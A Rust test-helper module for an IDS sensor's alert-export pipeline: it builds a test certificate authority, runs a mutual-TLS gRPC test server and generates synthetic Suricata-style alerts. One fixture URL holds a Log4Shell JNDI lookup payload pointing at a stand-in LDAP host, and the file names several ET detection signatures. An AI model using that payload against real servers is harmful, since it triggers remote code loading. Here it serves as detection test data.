//! A real tonic `SensorLink` server over loopback with mutual TLS, storing what it receives
//! (deduplicating by seq, counting resends), and test certificates made with rcgen.
#![allow(dead_code)]

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, DnType, IsCa, KeyPair};
use tapwatch_export::ExportConfig;
use tapwatch_proto::v1::{
    center_message,
    sensor_link_server::{SensorLink, SensorLinkServer},
    sensor_message, Ack, Alert, BatchesDropped, CenterMessage, FlowRecord, Health, Hello,
    SensorMessage,
};
use tokio::sync::mpsc;
use tonic::transport::{Certificate, Identity, Server, ServerTlsConfig};
use tonic::{Request, Response, Status, Streaming};

/// PEM files of a test PKI.
#[derive(Debug, Clone)]
pub struct Pki {
    pub dir: PathBuf,
    pub ca: PathBuf,
    pub server_cert: String,
    pub server_key: String,
    pub ca_pem: String,
    pub client_cert: PathBuf,
    pub client_key: PathBuf,
}

fn ca(name: &str) -> CertifiedIssuer<'static, KeyPair> {
    let mut p = CertificateParams::new(Vec::<String>::new()).expect("params");
    p.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    p.distinguished_name.push(DnType::CommonName, name);
    CertifiedIssuer::self_signed(p, KeyPair::generate().expect("key")).expect("ca")
}

/// A CA, a server certificate for `localhost` and a client certificate for `sensor_id`.
pub fn make_pki(dir: &Path, sensor_id: &str) -> Pki {
    let ca = ca("tapwatch test CA");
    let skey = KeyPair::generate().expect("key");
    let mut sp = CertificateParams::new(vec!["localhost".to_string()]).expect("params");
    sp.distinguished_name.push(DnType::CommonName, "center");
    let scert = sp.signed_by(&skey, &ca).expect("server cert");
    let ckey = KeyPair::generate().expect("key");
    let mut cp = CertificateParams::new(Vec::<String>::new()).expect("params");
    cp.distinguished_name.push(DnType::CommonName, sensor_id);
    let ccert = cp.signed_by(&ckey, &ca).expect("client cert");
    let w = |name: &str, pem: &str| {
        let p = dir.join(name);
        std::fs::write(&p, pem).expect("write pem");
        p
    };
    Pki {
        dir: dir.to_path_buf(),
        ca: w("ca.pem", &ca.pem()),
        ca_pem: ca.pem(),
        server_cert: scert.pem(),
        server_key: skey.serialize_pem(),
        client_cert: w("client.pem", &ccert.pem()),
        client_key: w("client.key", &ckey.serialize_pem()),
    }
}

/// Writes a CA unrelated to `pki` and returns its PEM path.
pub fn other_ca(dir: &Path) -> PathBuf {
    let p = dir.join("other-ca.pem");
    std::fs::write(&p, ca("another CA").pem()).expect("write");
    p
}

/// What the test center stored. Survives server restarts (it stands for the database).
#[derive(Debug, Default)]
pub struct Store {
    pub alerts: BTreeMap<u64, Vec<Alert>>,
    pub flows: BTreeMap<u64, Vec<FlowRecord>>,
    pub dropped: Vec<BatchesDropped>,
    pub done: BTreeSet<u64>,
    pub resent_batches: u64,
    pub hellos: Vec<Hello>,
    pub healths: Vec<Health>,
    pub dictionaries: HashMap<u32, Vec<u8>>,
    pub errors: Vec<String>,
}

impl Store {
    pub fn contiguous(&self) -> u64 {
        let mut n = 0;
        for &s in &self.done {
            if s != n + 1 {
                break;
            }
            n = s;
        }
        n
    }

    fn ack(&self) -> CenterMessage {
        CenterMessage {
            msg: Some(center_message::Msg::Ack(Ack {
                highest_contiguous_seq: self.contiguous(),
                highest_seen_seq: self.done.last().copied().unwrap_or(0),
            })),
        }
    }

    /// Every stored alert, in seq order.
    pub fn all_alerts(&self) -> Vec<Alert> {
        self.alerts.values().flatten().cloned().collect()
    }
}

/// The in-memory store a test center writes to, shared with the test.
pub type Shared = Arc<Mutex<Store>>;

struct Svc {
    store: Shared,
}

type OutStream = Pin<Box<dyn tokio_stream::Stream<Item = Result<CenterMessage, Status>> + Send>>;

#[tonic::async_trait]
impl SensorLink for Svc {
    type LinkStream = OutStream;

    async fn link(
        &self,
        request: Request<Streaming<SensorMessage>>,
    ) -> Result<Response<Self::LinkStream>, Status> {
        let mut inbound = request.into_inner();
        let (tx, rx) = mpsc::channel(1024);
        let store = self.store.clone();
        tokio::spawn(async move {
            while let Ok(Some(m)) = inbound.message().await {
                let reply = handle(&store, m);
                if let Some(r) = reply {
                    if tx.send(Ok(r)).await.is_err() {
                        return;
                    }
                }
            }
        });
        Ok(Response::new(Box::pin(
            tokio_stream::wrappers::ReceiverStream::new(rx),
        )))
    }
}

fn handle(store: &Shared, m: SensorMessage) -> Option<CenterMessage> {
    let mut s = store.lock().expect("store");
    match m.msg? {
        sensor_message::Msg::Hello(h) => {
            s.hellos.push(h);
            Some(s.ack())
        }
        sensor_message::Msg::Dictionary(d) => {
            s.dictionaries.insert(d.dictionary_id, d.data);
            None
        }
        sensor_message::Msg::AlertBatch(b) => {
            if s.done.contains(&b.seq) {
                s.resent_batches += 1;
                return Some(s.ack());
            }
            let dict = (b.dictionary_id != 0)
                .then(|| s.dictionaries.get(&b.dictionary_id).cloned())
                .flatten();
            match tapwatch_proto::batch::decode_batch::<Alert>(
                &b.payload,
                b.compression,
                dict.as_deref(),
                1_000_000,
                1 << 30,
            ) {
                Ok(alerts) => {
                    assert_eq!(alerts.len() as u32, b.count);
                    s.alerts.insert(b.seq, alerts);
                    s.done.insert(b.seq);
                }
                Err(e) => s.errors.push(format!("seq {}: {e}", b.seq)),
            }
            Some(s.ack())
        }
        sensor_message::Msg::FlowBatch(b) => {
            if s.done.contains(&b.seq) {
                s.resent_batches += 1;
                return Some(s.ack());
            }
            if let Ok(flows) = tapwatch_proto::batch::decode_batch::<FlowRecord>(
                &b.payload,
                b.compression,
                None,
                1_000_000,
                1 << 30,
            ) {
                s.flows.insert(b.seq, flows);
                s.done.insert(b.seq);
            }
            Some(s.ack())
        }
        sensor_message::Msg::BatchesDropped(d) => {
            for seq in d.first_seq..=d.last_seq {
                s.done.insert(seq);
            }
            s.dropped.push(d);
            Some(s.ack())
        }
        sensor_message::Msg::Health(h) => {
            s.healths.push(h);
            None
        }
    }
}

/// A running test center. Dropping it kills it abruptly (its runtime is shut down).
pub struct TestCenter {
    pub addr: SocketAddr,
    pub store: Shared,
    rt: Option<tokio::runtime::Runtime>,
}

impl TestCenter {
    /// Starts a center on `addr` (port 0: any) with mutual TLS from `pki` (or plaintext).
    pub fn start(addr: SocketAddr, pki: Option<&Pki>, store: Shared) -> TestCenter {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("runtime");
        // A killed predecessor on the same port may take a moment to release it.
        let mut tries = 0;
        let listener = loop {
            match rt.block_on(tokio::net::TcpListener::bind(addr)) {
                Ok(l) => break l,
                Err(e) if tries < 500 => {
                    tries += 1;
                    let _ = e;
                    std::thread::sleep(Duration::from_millis(10));
                }
                Err(e) => panic!("bind {addr}: {e}"),
            }
        };
        let addr = listener.local_addr().expect("addr");
        let mut builder = Server::builder();
        if let Some(pki) = pki {
            let tls = ServerTlsConfig::new()
                .identity(Identity::from_pem(&pki.server_cert, &pki.server_key))
                .client_ca_root(Certificate::from_pem(&pki.ca_pem));
            builder = builder.tls_config(tls).expect("tls");
        }
        let router = builder.add_service(
            SensorLinkServer::new(Svc {
                store: store.clone(),
            })
            .max_decoding_message_size(64 << 20),
        );
        let incoming = tokio_stream::wrappers::TcpListenerStream::new(listener);
        rt.spawn(async move {
            let _ = router.serve_with_incoming(incoming).await;
        });
        TestCenter {
            addr,
            store,
            rt: Some(rt),
        }
    }

    /// Kills the server (all connections cut at once).
    pub fn kill(mut self) {
        if let Some(rt) = self.rt.take() {
            // Every task (listener, connections) is dropped at once: no graceful close.
            rt.shutdown_timeout(Duration::from_secs(5));
        }
    }
}

impl Drop for TestCenter {
    fn drop(&mut self) {
        if let Some(rt) = self.rt.take() {
            rt.shutdown_background();
        }
    }
}

pub fn new_store() -> Shared {
    Arc::new(Mutex::new(Store::default()))
}

/// A free loopback port (bound then released).
pub fn free_addr() -> SocketAddr {
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    l.local_addr().expect("addr")
}

/// An export configuration for a center at `addr` with `pki`'s client certificate.
pub fn config(spool: &Path, addr: SocketAddr, pki: &Pki) -> ExportConfig {
    ExportConfig {
        enabled: true,
        sensor_id: "sensor-test-01".into(),
        center_url: format!("https://localhost:{}", addr.port()),
        ca_cert: Some(pki.ca.clone()),
        client_cert: Some(pki.client_cert.clone()),
        client_key: Some(pki.client_key.clone()),
        spool_dir: spool.to_path_buf(),
        max_batch_records: 100,
        max_batch_delay_ms: 20,
        segment_bytes: 64 << 10,
        max_bytes: 64 << 20,
        fsync: false,
        reconnect_base_ms: 20,
        reconnect_max_ms: 200,
        connect_timeout_ms: 5000,
        health_interval_secs: 1,
        ..ExportConfig::default()
    }
}

const SIGS: &[(&str, &str, u32)] = &[
    (
        "ET MALWARE Win32/Lumma Stealer CnC Checkin",
        "A Network Trojan was detected",
        1,
    ),
    (
        "ET POLICY curl User-Agent Outbound",
        "Attempted Information Leak",
        2,
    ),
    (
        "ET SCAN Suspicious inbound to MSSQL port 1433",
        "Potentially Bad Traffic",
        2,
    ),
    (
        "ET INFO Observed DNS Query to .top TLD",
        "Potentially Bad Traffic",
        3,
    ),
    (
        "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)",
        "Attempted Administrator Privilege Gain",
        1,
    ),
    (
        "ET HUNTING Suspicious TLS SNI (*.duckdns .org)",
        "Misc activity",
        3,
    ),
];

/// A realistic synthetic alert: ET-style signatures, a few app-layer mixes. `i` is stored in
/// `flow_id` so that every alert can be identified.
pub fn synthetic_alert(i: u64) -> Alert {
    use tapwatch_proto::v1::{DnsFields, DnsQuery, HttpFields, TlsFields};
    let k = (i % SIGS.len() as u64) as usize;
    let (sig, cat, sev) = SIGS[k];
    let mut a = Alert {
        timestamp_us: 1_732_450_000_000_000 + (i as i64) * 1375,
        flow_id: i,
        pcap_cnt: Some(i * 7 + 3),
        gid: 1,
        sid: 2_030_000 + k as u32 * 17,
        rev: 2 + k as u32,
        action: "allowed".into(),
        severity: sev,
        category: cat.into(),
        signature: sig.into(),
        src_ip: vec![10, 20, (i >> 8) as u8, i as u8],
        dst_ip: vec![203, 0, 113, (i % 13) as u8],
        src_port: 49_152 + (i % 16_000) as u32,
        dst_port: [443, 80, 1433, 53, 8080, 443][k],
        ip_protocol: if k == 3 { 17 } else { 6 },
        proto: if k == 3 { "UDP" } else { "TCP" }.into(),
        direction: 1,
        ip_version: 4,
        app_proto: ["tls", "http", "failed", "dns", "http", "tls"][k].into(),
        in_iface: "eth1".into(),
        community_id: format!(
            "1:{:016x}{:012x}=",
            i.wrapping_mul(0x9e37_79b9_7f4a_7c15),
            i
        ),
        ..Alert::default()
    };
    match k {
        1 | 4 => {
            a.http = Some(HttpFields {
                hostname: format!("host{}.example.net", i % 37),
                url: if k == 4 {
                    "/?x=${jndi:ldap://198.51.100.7:1389/a}".into()
                } else {
                    format!("/api/v1/items/{}", i % 1000)
                },
                http_user_agent: if k == 1 { "curl/8.5.0" } else { "Mozilla/5.0" }.into(),
                http_method: "GET".into(),
                protocol: "HTTP/1.1".into(),
                status: Some(200),
                length: Some(1234),
                ..HttpFields::default()
            })
        }
        3 => {
            a.dns = Some(DnsFields {
                queries: vec![DnsQuery {
                    rrname: format!("x{}.badsite.top", i % 211),
                    rrtype: "A".into(),
                }],
                r#type: "request".into(),
                id: Some((i % 65_536) as u32),
                ..DnsFields::default()
            })
        }
        0 | 5 => {
            a.tls = Some(TlsFields {
                sni: format!("c{}.duckdns.org", i % 53),
                version: "TLS 1.3".into(),
                ja4: "t13d1516h2_8daaf6152771_02713d6af862".into(),
                ..TlsFields::default()
            })
        }
        _ => {}
    }
    a
}

/// Polls `cond` every 10 ms until it holds, failing after `limit` (a generous bound, not a
/// timing assertion).
pub fn wait_until(limit: Duration, what: &str, mut cond: impl FnMut() -> bool) {
    let start = Instant::now();
    while !cond() {
        assert!(start.elapsed() < limit, "gave up waiting for: {what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Checks that the store holds alerts `0..n` each exactly once; returns the number of
/// resent batches the center deduplicated.
pub fn assert_all_once(store: &Shared, n: u64) -> u64 {
    let s = store.lock().expect("store");
    assert!(s.errors.is_empty(), "center errors: {:?}", s.errors);
    let mut seen = vec![0u32; n as usize];
    for a in s.alerts.values().flatten() {
        assert!(a.flow_id < n, "unexpected alert {}", a.flow_id);
        seen[a.flow_id as usize] += 1;
        assert_eq!(*a, synthetic_alert(a.flow_id), "alert content changed");
    }
    let lost = seen.iter().filter(|&&c| c == 0).count();
    let dup = seen.iter().filter(|&&c| c > 1).count();
    assert_eq!((lost, dup), (0, 0), "lost, duplicated");
    // Seqs are contiguous from 1.
    assert_eq!(s.contiguous(), s.done.len() as u64);
    s.resent_batches
}
